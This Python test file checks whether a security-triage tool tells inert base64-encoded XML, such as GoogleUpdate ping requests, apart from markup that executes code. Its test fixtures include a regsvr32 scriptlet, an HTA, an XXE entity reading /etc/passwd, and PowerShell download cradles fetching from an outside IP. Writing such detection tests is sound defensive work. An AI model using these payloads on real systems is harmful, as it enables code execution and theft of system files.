"""Decoded markup that cannot run (an updater's XML request) is data, not a decoded payload."""

from __future__ import annotations

import base64
from pathlib import Path

import pandas as pd
import pytest

from asisdk.executors import InlineExecutor
from asisdk.pipeline import TriageResult, load_events, load_frame, run_triage
from asisdk.pipeline._findings import _inert_markup

MSTICPY = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "events" / "msticpy"


def _kinds_of(result: TriageResult, events: pd.Series) -> list[str]:
    """The reason kinds of every finding led by one of ``events`` (a boolean mask)."""
    led = result.findings["event_index"].isin(set(events[events].index))
    return [str(k) for k in result.findings.loc[led, "reason_kinds"]]


def test_real_google_update_ping_xml_is_decoded_but_not_a_payload() -> None:
    """Real MDE process events: GoogleUpdate ``/ping`` carries a base64 Omaha XML request."""
    result = run_triage(load_events([MSTICPY / "mde_proc_cs1.csv"]), executor=InlineExecutor())
    text = result.events[result.columns.text[0]].fillna("").astype(str)
    ping = text.str.contains("/ping PD94bWwg", regex=False)
    assert ping.any()
    # The decoder still shows the XML layer ...
    layers = result.decoded[result.decoded["src_index"].isin(set(ping[ping].index))]
    assert layers["decoded_text"].str.startswith("<?xml").any()
    # ... but the findings do not score it as a decoded payload.
    kinds = _kinds_of(result, ping)
    assert all("decoded_payload" not in k for k in kinds)


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    "markup",
    [
        # A scriptlet (regsvr32 /i squiblydoo), an HTA and an XSL stylesheet run code.
        '<?XML version="1.0"?><scriptlet><registration progid="x" classid="{F0001111-0000-'
        '0000-0000-0000FEEDACDC}"><script language="JScript"><![CDATA[var r = new '
        'ActiveXObject("WScript.Shell").Run("calc.exe");]]></script></registration></scriptlet>',
        '<html><head><hta:application id=x/></head><body onload="run()">x</body></html>',
        '<?xml version="1.0"?><stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" '
        'version="1.0"><output method="text"/></stylesheet>',
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        "<task><exec>powershell -nop -w hidden -c iwr http://203.0.113.9/a</exec></task>",
    ],
)
def test_markup_that_runs_still_scores(markup: str) -> None:
    assert not _inert_markup(markup)
    events = pd.DataFrame({"CommandLine": [f"updater.exe /ping {_encoded(markup)}"]})
    result = run_triage(load_frame(events), executor=InlineExecutor())
    assert not result.decoded.empty
    assert "decoded_payload" in result.findings.iloc[0]["reason_kinds"]


@pytest.mark.parametrize(
    "text",
    [
        '<?xml version="1.0" encoding="UTF-8"?><request protocol="3.0"><app appid="{8A69D345-'
        'D564-463C-AFF1-A69D9E530F96}" version="91.0.4472.106"/></request>',
        '<?xml version="1.0"?><config><server url="https://updates.example.com/"/></config>',
        '<response><status code="200">ok</status></response>',
    ],
)
def test_inert_markup_is_told(text: str) -> None:
    assert _inert_markup(text)
    assert _inert_markup("\ufeff" + text)


@pytest.mark.parametrize(
    "text",
    ["IEX (New-Object Net.WebClient).DownloadString('http://x')", "a < b and c > d", "", None],
)
def test_non_markup_is_not_inert(text: object) -> None:
    assert not _inert_markup(text)
